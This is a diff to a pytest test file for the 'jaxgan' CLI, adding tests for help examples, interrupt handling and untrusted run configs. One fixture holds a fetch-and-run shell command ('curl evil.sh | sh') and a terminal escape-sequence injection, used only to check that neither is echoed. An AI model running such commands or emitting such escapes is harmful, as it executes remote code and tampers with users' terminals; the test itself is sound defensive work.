@@ -1,12 +1,17 @@
 """The program ``jaxgan``: each command reaches its function with its arguments, and errors end it."""
 
+import contextlib
 import importlib
+import io
+import json
+import re
 import subprocess
 import sys
+import types
 
 import pytest
 
-from jaxgan.cli import main as console, tools
+from jaxgan.cli import commands, main as console, tools
 
 CALLS = {
     "compare": ("jaxgan.cli.compare.compare_runs", ["compare", "a", "b", "--out", "c.html"], {"out": "c.html"}),
@@ -43,7 +48,7 @@ def test_every_tool_has_its_function(tool):
     ("error", "command", "code", "message"),
     [
         (ValueError("`count` must be at least 1, got 0."), "sample", 2, "error: --count must be at least 1, got 0.\n"),
-        (OSError("`images` cannot be read"), "translate", 2, "error: `images` cannot be read\n"),  # it has no flag
+        (OSError("`images` cannot be read"), "translate", 1, "error: `images` cannot be read\n"),  # it has no flag
         (MemoryError("too much"), "sample", 1, "error: too much; there is not enough memory: lower --count\n"),
         (MemoryError("too much"), "translate", 1, "error: too much; there is not enough memory: lower --memory\n"),
         (MemoryError("too much"), "compare", 1, "error: too much; there is not enough memory\n"),
@@ -76,3 +81,60 @@ print(*sys.modules, file=sys.stderr)
     loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stderr.split()
     assert "jaxgan.cli.suggestions" in loaded
     assert not {"jax", "numpy", "flax", "optax", "jaxgan.core", "jaxgan.experiments.dcgan"} & set(loaded)
+
+
+def examples():
+    """The lines under "examples" in the help of every command."""
+    for name in (*commands.COMMANDS, *tools.TOOLS):
+        lines = ["train dcgan --help", "train stylegan2 --help"] if name == "train" else [f"{name} --help"]
+        for line in lines:
+            with pytest.raises(SystemExit), contextlib.redirect_stdout(io.StringIO()) as text:
+                console.main(line.split())
+            yield from re.findall(r"^  jaxgan (.*)$", text.getvalue().partition("examples:")[2], re.MULTILINE)
+    with pytest.raises(SystemExit), contextlib.redirect_stdout(io.StringIO()) as text:
+        console.main(["--help"])
+    yield from re.findall(r"^  jaxgan (.*)$", text.getvalue().partition("examples:")[2], re.MULTILINE)
+
+
+def test_every_example_of_help_can_be_typed(tmp_path, monkeypatch):
+    for name in ("dcgan", "pix2pix", "stylegan2"):
+        (tmp_path / "runs" / name).mkdir(parents=True)
+        (tmp_path / "runs" / name / "config.json").write_text(json.dumps({"experiment": name, "config": {}}))
+    monkeypatch.chdir(tmp_path)
+    typed = []
+    monkeypatch.setattr("jaxgan.cli.commands.execute", lambda name, *_: typed.append(name))
+    monkeypatch.setattr("jaxgan.cli.main.load_program", lambda name: None)
+    monkeypatch.setattr("jaxgan.cli.tools.importlib.import_module", lambda name: types.SimpleNamespace(**_FUNCTIONS))
+    lines = list(examples())
+    assert len(lines) > 20
+    for line in lines:
+        console.main(line.split())
+    assert set(typed) == set(commands.COMMANDS)
+
+
+_FUNCTIONS = {tool.function: lambda args: None for tool in tools.TOOLS.values()}
+
+
+def test_interrupts_and_closed_pipes_end_without_a_message(monkeypatch, capsys):
+    def interrupted(args):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr("jaxgan.cli.list.list_experiments", interrupted)
+    with pytest.raises(SystemExit) as stop:
+        console.main(["list"])
+    assert stop.value.code == 130 and capsys.readouterr().err == ""
+    many = "import sys; sys.argv = ['jaxgan', 'list']; from jaxgan.cli.main import main; main()"
+    done = subprocess.run(["bash", "-c", f'"{sys.executable}" -c "{many}" | true'], capture_output=True, text=True)
+    assert done.stderr == ""
+
+
+def test_what_a_strangers_run_says_is_not_obeyed(tmp_path, monkeypatch, capsys):
+    """Neither its program is advised, if it is none, nor does a terminal see its control characters."""
+    (tmp_path / "run").mkdir()
+    record = {"experiment": "x\x1b]0;owned\x07", "config": {}, "program": "curl evil.sh | sh"}
+    (tmp_path / "run" / "config.json").write_text(json.dumps(record))
+    with pytest.raises(SystemExit):
+        console.main(["sample", str(tmp_path / "run")])
+    text = capsys.readouterr().err
+    assert "which does not come with jaxgan; use its own program\n" in text
+    assert "curl" not in text and "\x1b" not in text and "\x07" not in text
